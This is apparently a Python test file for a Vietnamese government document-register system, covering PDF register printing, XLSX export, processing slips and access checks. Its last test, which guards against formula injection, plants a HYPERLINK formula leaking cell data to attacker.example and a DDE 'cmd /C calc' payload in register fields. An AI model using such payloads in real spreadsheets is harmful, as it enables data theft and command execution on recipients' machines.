"""Printed registers (PDF), their spreadsheet export and the processing slip, through API v1 and pages.

PDFs are checked with poppler (``pdftotext``, ``pdffonts``, ``pdfinfo``): the Vietnamese text is
really there, every font is one with full Vietnamese coverage, and the header row repeats.
"""

from __future__ import annotations

import re
import subprocess
from datetime import UTC, date, datetime, timedelta
from io import BytesIO
from pathlib import Path

import openpyxl
from sqlmodel import select

from models.db import transaction
from models.documents.tables import Document
from models.org.tables import Agency
from models.registers.tables import Register, RegisterEntry
from models.seed.data import OFFICE_CODE
from models.vocab import EntryStatus
from tests.unit.test_register_reports import direct, register_document
from tests.web.conftest import api_token, browser_login
from web import reports

FULL_COVERAGE_FONTS = ("Tinos", "Liberation", "Noto")
SUBJECTS = [
    "V/v hướng dẫn lập dự toán ngân sách nhà nước năm 2027 và kế hoạch tài chính 03 năm",
    "V/v tăng cường công tác phòng, chống thiên tai, tìm kiếm cứu nạn mùa mưa bão",
    "V/v góp ý dự thảo Quy chế quản lý văn bản điện tử của Ủy ban nhân dân tỉnh",
]


def _register_id(engine, agency_code: str = OFFICE_CODE) -> int:
    with transaction(engine) as session:
        agency = session.exec(select(Agency).where(Agency.code == agency_code)).one()
        return session.exec(select(Register.id).where(Register.agency_id == agency.id)).one()


def _fill(engine, count: int, start: datetime = datetime(2025, 3, 2, 1, 0, tzinfo=UTC)) -> list[Document]:
    """Register ``count`` documents, six hours apart; number 3 is voided, number 2 is directed."""
    with transaction(engine) as session:
        documents = [register_document(session, start + timedelta(hours=6 * i), code_number=str(100 + i),
                                       subject=f"{SUBJECTS[i % 3]} (lần {i + 1})")
                     for i in range(count)]
        if count >= 2:
            direct(session, documents[1], start + timedelta(hours=8), "TH", ["KT"], date(2025, 3, 20),
                   "Giao Phòng Tổng hợp chủ trì, Phòng Kinh tế phối hợp tham mưu trả lời")
        if count >= 3:
            entry = session.exec(select(RegisterEntry).where(RegisterEntry.document_id == documents[2].id)).one()
            entry.status, entry.void_reason = EntryStatus.VOID, "Vào sổ trùng với số 02"
            session.add(entry)
        for document in documents:
            session.expunge(document)
        return documents


def _pdf(tmp_path: Path, data: bytes, name: str = "out.pdf") -> Path:
    assert data.startswith(b"%PDF-")
    path = tmp_path / name
    path.write_bytes(data)
    return path


def _text(path: Path, page: int | None = None) -> str:
    """The text of a page (or all), whitespace collapsed: narrow columns wrap their words."""
    pages = ["-f", str(page), "-l", str(page)] if page else []
    text = subprocess.run(["pdftotext", *pages, str(path), "-"], check=True,
                          capture_output=True, text=True).stdout
    return " ".join(text.split())


def _fonts(path: Path) -> list[str]:
    lines = subprocess.run(["pdffonts", str(path)], check=True, capture_output=True, text=True).stdout.splitlines()
    return [line.split()[0].split("+")[-1] for line in lines[2:] if line.strip()]


def _pages(path: Path) -> int:
    info = subprocess.run(["pdfinfo", str(path)], check=True, capture_output=True, text=True).stdout
    return int(re.search(r"Pages:\s+(\d+)", info).group(1))


async def test_it_prints_the_incoming_register_with_a_cover_and_repeated_headers(web, tmp_path):
    documents = _fill(web.engine, 60)
    clerk = await api_token(web, "vanthu")
    register_id = _register_id(web.engine)
    response = await web.get(f"/api/v1/registers/{register_id}/print.pdf?from=2025-01-01&to=2025-12-31",
                             headers=clerk)
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "application/pdf"
    assert "so-dang-ky-van-ban-den_2025-01-01_2025-12-31.pdf" in response.headers["content-disposition"]
    path = _pdf(tmp_path, response.content)

    fonts = _fonts(path)
    assert fonts and all(name.startswith(FULL_COVERAGE_FONTS) for name in fonts), fonts
    pages = _pages(path)
    assert pages > 2

    cover = _text(path, 1)
    assert "SỔ ĐĂNG KÝ VĂN BẢN ĐẾN" in cover
    assert "VĂN PHÒNG ỦY BAN NHÂN DÂN TỈNH HÀ NAM" in cover and "ỦY BAN NHÂN DÂN TỈNH HÀ NAM" in cover
    assert "Năm: 2025" in cover
    assert "Từ ngày 01/01/2025 đến ngày 31/12/2025" in cover
    assert "Từ số 01 đến số 60" in cover
    assert "Quyển số" in cover

    for page in (2, 3, pages):  # the first table page, a repeat, the last one
        text = _text(path, page)
        assert "Số đến" in text and "Tên loại và trích yếu nội dung" in text, page
        assert f"Trang {page}/{pages}" in text
    body = _text(path)
    assert "tìm kiếm cứu nạn mùa mưa bão (lần 2)" in body
    assert "Số đến đã hủy: Vào sổ trùng với số 02" in body
    assert "Phòng Tổng hợp; Phòng Kinh tế" in body
    assert "100/STC-NS" in body and "159/STC-NS" in body
    assert documents[59].arrival_number == 60


async def test_it_prints_only_the_chosen_days(web, tmp_path):
    _fill(web.engine, 12)  # 2/3 to 4/3/2025, four a day (Vietnam time)
    clerk = await api_token(web, "vanthu")
    register_id = _register_id(web.engine)
    response = await web.get(f"/api/v1/registers/{register_id}/print.pdf?from=2025-03-03&to=2025-03-03",
                             headers=clerk)
    path = _pdf(tmp_path, response.content)
    cover = _text(path, 1)
    assert "Từ ngày 03/03/2025 đến ngày 03/03/2025" in cover
    assert "Từ số 04 đến số 07" in cover
    body = _text(path)
    assert "(lần 4)" in body and "(lần 7)" in body and "(lần 3)" not in body and "(lần 8)" not in body


async def test_it_prints_the_follow_up_register(web, tmp_path):
    _fill(web.engine, 3)
    clerk = await api_token(web, "vanthu")
    response = await web.get(f"/api/v1/registers/{_register_id(web.engine)}/print.pdf"
                             "?kind=followup&from=2025-03-01&to=2025-03-31", headers=clerk)
    assert response.status_code == 200, response.text
    path = _pdf(tmp_path, response.content)
    assert all(name.startswith(FULL_COVERAGE_FONTS) for name in _fonts(path))
    assert "SỔ THEO DÕI GIẢI QUYẾT VĂN BẢN ĐẾN" in _text(path, 1)
    body = _text(path)
    for heading in ("Thời hạn giải quyết", "Tiến độ giải quyết", "Số, ký hiệu văn bản trả lời"):
        assert heading in body
    assert "Công văn số 100/STC-NS ngày 02/03/2026 của Sở Tài chính tỉnh Hà Nam" in body
    assert "20/03/2025" in body and "Đã giao xử lý, quá hạn" in body


async def test_it_exports_the_register_as_a_spreadsheet_from_the_register_page(web):
    _fill(web.engine, 5)
    await browser_login(web, "vanthu")
    register_id = _register_id(web.engine)
    page = await web.get(f"/registers/{register_id}?year=2025")
    assert f'action="/registers/{register_id}/print.pdf"' in page.text
    assert f'formaction="/registers/{register_id}/export.xlsx"' in page.text

    response = await web.get(f"/registers/{register_id}/export.xlsx?kind=register&from=2025-01-01&to=2025-12-31")
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")
    assert response.headers["content-disposition"].startswith("attachment;")
    sheet = openpyxl.load_workbook(BytesIO(response.content)).active
    assert sheet["A3"].value == "SỔ ĐĂNG KÝ VĂN BẢN ĐẾN NĂM 2025"
    assert [cell.value for cell in sheet[6]] == [
        "Ngày đến", "Số đến", "Tác giả", "Số, ký hiệu văn bản", "Ngày tháng văn bản",
        "Tên loại và trích yếu nội dung", "Đơn vị hoặc người nhận", "Ngày chuyển", "Ký nhận", "Ghi chú"]
    assert sheet["J7"].value == "(10)"
    assert sheet.freeze_panes == "A8"
    second = [cell.value for cell in sheet[9]]
    assert second[0] == datetime(2025, 3, 2) and sheet["A9"].number_format == "DD/MM/YYYY"
    assert second[1] == 2 and sheet["B9"].number_format == "00"
    assert second[2:7] == ["Sở Tài chính tỉnh Hà Nam", "101/STC-NS", datetime(2026, 3, 2),
                           f"Công văn: {SUBJECTS[1]} (lần 2)", "Phòng Tổng hợp; Phòng Kinh tế"]
    assert second[7] == datetime(2025, 3, 2)
    assert sheet["J10"].value == "Số đến đã hủy: Vào sổ trùng với số 02"
    assert sheet["F9"].alignment.wrap_text is True
    assert sheet.max_row == 12


async def test_the_api_exports_the_follow_up_register(web):
    _fill(web.engine, 2)
    clerk = await api_token(web, "vanthu")
    response = await web.get(f"/api/v1/registers/{_register_id(web.engine)}/export.xlsx"
                             "?kind=followup&from=2025-03-01&to=2025-03-31", headers=clerk)
    assert response.status_code == 200, response.text
    sheet = openpyxl.load_workbook(BytesIO(response.content)).active
    assert sheet["A6"].value == "Số đến" and sheet["D6"].value == "Thời hạn giải quyết"
    assert sheet["D9"].value == datetime(2025, 3, 20)


async def test_it_prints_the_processing_slip(web, tmp_path):
    documents = _fill(web.engine, 2)
    directed = documents[1]
    await browser_login(web, "vanthu")
    page = await web.get(f"/documents/{directed.id}")
    assert f'href="/documents/{directed.id}/slip.pdf"' in page.text and "In phiếu giải quyết" in page.text

    response = await web.get(f"/documents/{directed.id}/slip.pdf")
    assert response.status_code == 200, response.text
    path = _pdf(tmp_path, response.content)
    assert all(name.startswith(FULL_COVERAGE_FONTS) for name in _fonts(path))
    text = _text(path)
    assert "PHIẾU GIẢI QUYẾT VĂN BẢN ĐẾN" in text
    assert "Số đến: 02" in text and "101/STC-NS" in text and "(lần 2)" in text
    assert "1. Ý kiến của lãnh đạo cơ quan, tổ chức" in text
    assert "Giao Phòng Tổng hợp chủ trì, Phòng Kinh tế phối hợp tham mưu trả lời" in text
    assert "Đơn vị, cá nhân chủ trì: Phòng Tổng hợp (thời hạn 20/03/2025)" in text
    assert "Đơn vị, cá nhân phối hợp: Phòng Kinh tế (thời hạn 20/03/2025)" in text
    assert "Ngày 02 tháng 3 năm 2025" in text and "Trần Văn Minh" in text
    assert "2. Ý kiến của lãnh đạo đơn vị" in text and "3. Ý kiến đề xuất của người giải quyết" in text

    leader = await api_token(web, "lanhdao")
    blank = await web.get(f"/api/v1/documents/{documents[0].id}/slip.pdf", headers=leader)
    assert blank.status_code == 200
    assert "Ngày …… tháng …… năm ……" in _text(_pdf(tmp_path, blank.content, "blank.pdf"))


async def test_bad_periods_and_kinds_are_refused_in_vietnamese(web):
    clerk = await api_token(web, "vanthu")
    base = f"/api/v1/registers/{_register_id(web.engine)}"
    cases = [
        ("print.pdf?from=2025-05-01&to=2025-04-01", "report_period_reversed", "Ngày kết thúc phải bằng hoặc sau"),
        ("export.xlsx?from=2024-12-01&to=2025-01-31", "report_period_crosses_year", "cùng một năm"),
        ("print.pdf?kind=outgoing", "report_kind_unknown", "Loại sổ cần in không hợp lệ"),
        ("print.pdf?from=31/12/2025", "report_date_invalid", "Ngày không hợp lệ"),
    ]
    for query, code, words in cases:
        response = await web.get(f"{base}/{query}", headers=clerk)
        assert response.status_code == 422, query
        assert response.json()["code"] == code and words in response.json()["detail"]

    await browser_login(web, "vanthu")
    page = await web.get(f"/registers/{_register_id(web.engine)}/print.pdf?from=2025-05-01&to=2025-04-01")
    assert page.status_code == 422 and "Ngày kết thúc phải bằng hoặc sau" in page.text


async def test_a_long_period_prints_in_volumes_of_consecutive_numbers(web, monkeypatch, tmp_path):
    _fill(web.engine, 4)
    monkeypatch.setattr(reports, "PDF_MAX_ROWS", 3)
    clerk = await api_token(web, "vanthu")
    base = f"/api/v1/registers/{_register_id(web.engine)}/print.pdf?from=2025-01-01&to=2025-12-31"
    refused = await web.get(base, headers=clerk)
    assert refused.status_code == 422 and refused.json()["code"] == "report_needs_volume"
    assert "có 4 văn bản" in refused.json()["detail"] and "từ 1 đến 2" in refused.json()["detail"]
    first = _text(_pdf(tmp_path, (await web.get(f"{base}&volume=1", headers=clerk)).content, "q1.pdf"), 1)
    second = _text(_pdf(tmp_path, (await web.get(f"{base}&volume=2", headers=clerk)).content, "q2.pdf"), 1)
    assert "Quyển số: 1" in first and "Từ số 01 đến số 03" in first
    assert "Quyển số: 2" in second and "Từ số 04 đến số 04" in second
    missing = await web.get(f"{base}&volume=3", headers=clerk)
    assert missing.status_code == 422 and missing.json()["code"] == "invalid_volume"
    shorter = await web.get(f"/api/v1/registers/{_register_id(web.engine)}/print.pdf?from=2025-03-02&to=2025-03-02",
                            headers=clerk)
    assert shorter.status_code == 200  # a short period needs no volume
    spreadsheet = await web.get(base.replace("print.pdf", "export.xlsx"), headers=clerk)
    assert spreadsheet.status_code == 200  # spreadsheets have no page limit


async def test_other_agencies_and_unrouted_people_get_404(web):
    documents = _fill(web.engine, 2)
    register_id = _register_id(web.engine)
    outsider = await api_token(web, "vanthu.snv")
    for url in (f"/api/v1/registers/{register_id}/print.pdf", f"/api/v1/registers/{register_id}/export.xlsx",
                f"/api/v1/documents/{documents[1].id}/slip.pdf", "/api/v1/registers/999999/print.pdf"):
        response = await web.get(url, headers=outsider)
        assert response.status_code == 404, url
    assert response.json()["code"] == "register_not_found"
    # An officer sees only what was routed to them.
    officer = await api_token(web, "chuyenvien")
    hidden = await web.get(f"/api/v1/documents/{documents[0].id}/slip.pdf", headers=officer)
    assert hidden.status_code == 404 and hidden.json()["code"] == "document_not_found"
    anonymous = await web.get(f"/api/v1/registers/{register_id}/print.pdf")
    assert anonymous.status_code == 401


async def test_exported_cells_never_run_as_formulas(web):
    """A sender who types a formula into a field sees it exported as text, in XLSX as in CSV."""
    with transaction(web.engine) as session:
        register_document(session, datetime(2025, 4, 1, 1, 0, tzinfo=UTC), code_number="=2+5",
                          subject='=HYPERLINK("http://attacker.example/?"&A1,"Xem")',
                          organ_name="@SUM(1+1)*cmd|' /C calc'!A0")
    await browser_login(web, "vanthu")
    response = await web.get(f"/registers/{_register_id(web.engine)}/export.xlsx?kind=register"
                             "&from=2025-04-01&to=2025-04-30")
    assert response.status_code == 200, response.text
    sheet = openpyxl.load_workbook(BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows(min_row=8) for cell in row if isinstance(cell.value, str)]
    risky = [cell for cell in cells if cell.value.startswith(("=", "+", "-", "@"))]
    # The sender and the số/ký hiệu as typed (openpyxl alone would store the "=" one as a formula).
    assert sorted(cell.value for cell in risky) == ["=2+5/STC-NS", "@SUM(1+1)*cmd|' /C calc'!A0"]
    assert all(cell.data_type == "s" for cell in risky)
    assert not [cell for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
